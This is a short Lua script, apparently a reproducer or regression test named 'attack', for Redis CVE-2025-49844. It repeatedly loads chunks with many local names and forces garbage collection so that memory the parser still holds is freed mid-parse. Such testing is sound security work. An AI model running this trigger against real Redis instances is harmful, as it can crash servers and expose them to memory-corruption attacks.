-- ends: done
-- Redis CVE-2025-49844: what the parser held was collected while it parsed.
workflow{name="attack", run=function(run, input)
for i = 1, 200 do
  local names = {}
  for k = 1, 100 do names[k] = "name_" .. i .. "_" .. k end
  local list = table.concat(names, ",")
  local f = assert(load("local " .. list .. " = 'x" .. i .. "' return function() return " .. names[1] .. " end", "chunk" .. i))
  names, list = nil, nil
  local garbage = {}
  for k = 1, 100 do garbage[k] = ("g"):rep(1000) .. k end
  assert(f()() == "x" .. i)
end
end}
